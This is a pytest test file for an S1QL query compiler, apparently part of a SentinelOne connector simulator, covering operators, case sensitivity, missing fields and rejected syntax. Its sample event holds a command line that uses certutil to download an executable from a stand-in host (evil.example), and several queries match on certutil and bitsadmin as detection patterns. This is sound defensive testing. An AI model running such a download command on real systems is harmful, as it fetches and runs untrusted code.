"""S1QL evaluation: each operator, case rules, missing fields, and what must be rejected."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from connector.simulator.query import QueryParseError, compile_s1ql

EVENT: dict[str, Any] = {
    "eventType": "Process Creation",
    "endpointOs": "windows",
    "tgtProcName": "CMD.EXE",
    "tgtProcCmdLine": "cmd.exe /c certutil -f http://evil.example/x.exe",
    "tgtProcPid": "4720",
    "dstPort": 443,
    "srcProcIsStorylineRoot": "True",
    "eventTime": "2026-11-20T10:00:05.000Z",
    "netProtocolName": "",
    "srcProcParentName": None,
}

CASES = [
    ('EventType = "Process Creation"', True),
    ('EventType = "process creation"', False),  # = is case-sensitive
    ('EventType != "IP Connect"', True),
    ('TgtProcName In ("cmd.exe")', False),
    ('TgtProcName In ("CMD.EXE", "x")', True),
    ('TgtProcName Not In ("cmd.exe")', True),
    ('TgtProcName In Anycase ("cmd.exe")', True),
    ('TgtProcName in AnyCase ("powershell.exe", "cmd.exe")', True),
    ('TgtProcName In Contains ("CMD")', True),
    ('TgtProcName In Contains ("cmd")', False),
    ('TgtProcName In Contains Anycase ("cmd")', True),
    ('TgtProcCmdLine Contains "http://"', True),
    ('TgtProcCmdLine Contains "HTTP://"', False),
    ('TgtProcCmdLine Contains Anycase "HTTP://"', True),
    ('TgtProcCmdLine ContainsCIS "CERTUTIL"', True),
    ('TgtProcCmdLine Does Not ContainCIS "CERTUTIL"', False),
    ('TgtProcCmdLine Does Not ContainCIS "bitsadmin"', True),
    ('TgtProcName StartsWithCIS "cmd"', True),
    ('TgtProcName EndsWithCIS ".exe"', True),
    ('TgtProcName EndsWithCIS ".bat"', False),
    (r'TgtProcCmdLine RegExp "\s/c\s"', True),
    (r'TgtProcCmdLine regexp "^powershell"', False),
    ("DstPort = 443", True),
    ("DstPort > 400", True),
    ("DstPort >= 443", True),
    ("DstPort < 443", False),
    ("DstPort <= 443", True),
    ("TgtProcPID = 4720", True),  # a DV pid is a string; numbers compare numerically
    ('TgtProcPID = "4720"', True),
    ('EventTime > "2026-11-20T10:00:04.999Z"', True),
    ('EventTime BETWEEN "2026-11-20T10:00:00Z" AND "2026-11-20T10:00:05Z"', True),
    ('EventTime Between "2026-11-20T10:00:06Z" And "2026-11-20T10:00:09Z"', False),
    ("TgtProcName Is Not Empty", True),
    ("NetProtocolName Is Not Empty", False),
    ("NetProtocolName Is Empty", True),
    ("TgtProcName EXISTS", True),
    ("SrcProcParentName EXISTS", False),  # None counts as absent
    ("NOT SrcProcParentName EXISTS", True),
    ("SrcProcParentName Not Exists", True),
    ('SrcProcParentName != "x"', True),  # negated tests pass on a missing field
    ('SrcProcParentName = "x"', False),
    ('NoSuchField Not In ("a")', True),
    ('endpointos = "windows" and TGTPROCNAME in anycase ("cmd.exe")', True),  # names any case
    ('EventType = "IP Connect" OR EndpointOS = "windows"', True),
    ('(EventType = "IP Connect" OR EndpointOS = "linux") AND DstPort = 443', False),
    ('NOT (EventType = "IP Connect")', True),
    ('not EventType = "Process Creation" and DstPort = 443', False),  # NOT binds tightest
]


@pytest.mark.parametrize(("query", "expected"), CASES)
def test_operator_semantics(query: str, expected: bool) -> None:
    assert compile_s1ql(query)(EVENT) is expected


CONNECTOR_QUERY = (
    'EndpointOS = "windows" AND ((EventType = "Process Creation" AND TgtProcName In Anycase '
    '("cmd.exe")) OR (EventType = "IP Connect" AND SrcProcName In Anycase ("cmd.exe")))'
)


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        (
            {"endpointOs": "windows", "eventType": "Process Creation", "tgtProcName": "cmd.exe"},
            True,
        ),
        ({"endpointOs": "windows", "eventType": "IP Connect", "srcProcName": "Cmd.exe"}, True),
        ({"endpointOs": "windows", "eventType": "IP Connect", "tgtProcName": "cmd.exe"}, False),
        ({"endpointOs": "linux", "eventType": "Process Creation", "tgtProcName": "cmd.exe"}, False),
        ({"endpointOs": "windows", "eventType": "File Creation", "srcProcName": "cmd.exe"}, False),
    ],
)
def test_the_connector_query_from_the_reference(event: dict[str, Any], expected: bool) -> None:
    assert compile_s1ql(CONNECTOR_QUERY)(event) is expected


REJECTED = [
    ("a = 1 AND b = 2 OR c = 3", "mixed"),
    ("a = 1 or b = 2 and c = 3", "mixed"),
    ("a == 1", "unexpected"),
    ("a = 'single'", "unexpected"),
    ('a = "C:\\Windows"', "backslash"),
    ('a In ("x\\y")', "backslash"),
    ("a LIKE 1", "unexpected"),
    ("a = ", "end of query"),
    ("(a = 1", "end of query"),
    ("a In ()", "unexpected"),
    ('a RegExp "("', "invalid regular expression"),
    ("a | b", "unexpected"),
    ("", "end of query"),
]


@pytest.mark.parametrize(("query", "fragment"), REJECTED)
def test_unsupported_constructs_are_rejected(query: str, fragment: str) -> None:
    with pytest.raises(QueryParseError, match="could not parse query") as info:
        compile_s1ql(query)
    assert fragment in str(info.value)


def test_parenthesised_mix_is_accepted() -> None:
    predicate = compile_s1ql("(a = 1 AND b = 2) OR c = 3")
    assert predicate({"a": 1, "b": 2}) and predicate({"c": 3})
    assert not predicate({"a": 1, "b": 3})


def test_unknown_fields_are_rejected_when_the_field_set_is_given() -> None:
    fields = {"tgtProcName", "endpointOs"}
    assert compile_s1ql('TGTPROCNAME = "x"', fields=fields)({"tgtProcName": "x"})
    with pytest.raises(QueryParseError, match="unknown field 'TgtProcNmae'"):
        compile_s1ql('TgtProcNmae = "x"', fields=fields)


def test_keywords_do_not_swallow_field_names_that_start_with_them() -> None:
    predicate = compile_s1ql('Notes = "a" AND Index = "b" AND Origin = "c" AND IsRoot = "d"')
    assert predicate({"notes": "a", "index": "b", "origin": "c", "isRoot": "d"})


def test_a_query_error_is_a_value_error() -> None:
    assert issubclass(QueryParseError, ValueError)


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="abAN OR()=!<>\"\\'0123456789,.", max_size=40))
def test_any_text_compiles_or_raises_query_parse_error(text: str) -> None:
    try:
        predicate = compile_s1ql(text)
    except QueryParseError:
        return
    assert isinstance(predicate(EVENT), bool)


# -- enum and numeric fields (sentinelone-api-evidence.md, difference 1) ----------------------

ENUM_REFUSED = [
    'EventType In Anycase ("Process Creation", "ProcessCreation")',
    'EndpointOS ContainsCIS "windows"',
    'EndpointOS Contains "win"',
    'EventType StartsWithCIS "Process"',
    'EventType EndsWithCIS "Creation"',
    'ObjectType In Contains ("proc")',
    'ObjectType In Contains Anycase ("proc")',
    'EventType Does Not ContainCIS "Process"',
    'EventType RegExp "Process.*"',
    "EventType Is Not Empty",
    "EventType Is Empty",
    "EndpointOS EXISTS",
    'NetEventDirection > "A"',
    'EventType Between "A" And "Z"',
    'AgentOS ContainsCIS "windows"',
]


@pytest.mark.parametrize("query", ENUM_REFUSED)
def test_enum_fields_refuse_every_operator_but_equality_and_in(query: str) -> None:
    with pytest.raises(QueryParseError, match=r"could not parse query: .* is an enum field"):
        compile_s1ql(query)


@pytest.mark.parametrize(
    "query",
    [
        'EventType = "ProcessCreation"',  # an alias the console does not know
        'EventType In ("Process Creation", "Proc Creation")',
        'EndpointOS != "macos"',
        'EndpointOS Not In ("windows", "win")',
        "EventType = 1",
    ],
)
def test_enum_fields_refuse_undocumented_values(query: str) -> None:
    with pytest.raises(QueryParseError, match=r"could not parse query: .* is not a value"):
        compile_s1ql(query)


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ('EventType = "Process Creation"', True),
        ('EventType != "Process Creation"', False),
        ('EventType In ("IP Connect", "Process Creation")', True),
        ('EventType Not In ("IP Connect", "Process Creation")', False),
        ('endpointos = "windows"', True),  # field names in any case
        ('EndpointOS = "WINDOWS"', False),  # accepted, but = compares case-sensitively
    ],
)
def test_enum_fields_accept_documented_values_with_equality_and_in(
    query: str, expected: bool
) -> None:
    assert compile_s1ql(query)(EVENT) is expected


@pytest.mark.parametrize(
    "query", ['TgtProcPid ContainsCIS "12"', 'DstPort In Anycase ("443")', 'SrcPort RegExp "4"']
)
def test_numeric_fields_refuse_string_operators(query: str) -> None:
    with pytest.raises(QueryParseError, match="is a numeric field"):
        compile_s1ql(query)
